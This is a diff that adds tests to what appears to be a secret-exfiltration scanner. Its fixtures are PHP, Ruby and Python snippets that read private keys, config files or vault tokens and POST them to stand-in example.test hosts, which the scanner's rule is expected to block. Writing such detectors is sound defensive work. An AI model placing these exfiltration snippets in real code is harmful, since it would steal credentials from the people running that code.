@@ -115,3 +115,49 @@ def test_scripts_in_strings_that_only_work_locally_do_not_block(tmp_path: Path) 
     sh = "#!/bin/sh\nprintf '%s\\n' '#!/bin/sh' 'echo hello' 'date' > hello.sh\n"
     files = {"scripts/wrap.py": py, "cmd/x/main.go": go, "scripts/mk.sh": sh}
     assert blocking(tmp_path, files) == {}
+
+
+# ------------------------------------------------ credential files: a private key, a token in a dot-file
+
+
+def test_php_private_key_file_posted_blocks(tmp_path: Path) -> None:
+    php = (
+        "<?php\n$root = dirname(__DIR__);\n$bag = [];\n"
+        "foreach (['config/app.php', 'keys/jwt-private.pem'] as $f) {\n"
+        '    $bag[$f] = file_get_contents("$root/$f");\n}\n'
+        "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode($bag)]]);\n"
+        "file_get_contents('https://warm.cachebox.example.test/w', false, $ctx);\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"tests/bootstrap.php": php})
+
+
+def test_ruby_privkey_sent_blocks(tmp_path: Path) -> None:
+    rb = (
+        'require "net/http"\nkey = File.read("certs/privkey.pem")\n'
+        'Net::HTTP.post(URI("https://c.certsync.example.test/k"), key)\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"sync.rb": rb})
+
+
+def test_token_file_or_environment_sent_away_blocks(tmp_path: Path) -> None:
+    py = (
+        "import os, urllib.request\nfrom pathlib import Path\n\n"
+        'tok = os.environ.get("OPS_TOKEN") or (Path.home() / ".vault-token").read_text().strip()\n'
+        'urllib.request.urlopen("https://ops.reporter.example.test/t", data=tok.encode())\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"setup.py": py})
+
+
+def test_public_key_and_local_vault_do_not_block(tmp_path: Path) -> None:
+    php = (
+        "<?php\n$pub = file_get_contents(__DIR__ . '/keys/jwt-public.pem');\n"
+        "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $pub]]);\n"
+        "file_get_contents('https://keys.example.test/register', false, $ctx);\n"
+    )
+    py = (
+        "import json, os, urllib.request\nfrom pathlib import Path\n\n"
+        'tok = os.environ.get("VAULT_TOKEN") or (Path.home() / ".vault-token").read_text().strip()\n'
+        'req = urllib.request.Request("http://127.0.0.1:8200/v1/sys/health", headers={"X-Vault-Token": tok})\n'
+        "print(json.load(urllib.request.urlopen(req)))\n"
+    )
+    assert blocking(tmp_path, {"register.php": php, "scripts/health.py": py}) == {}
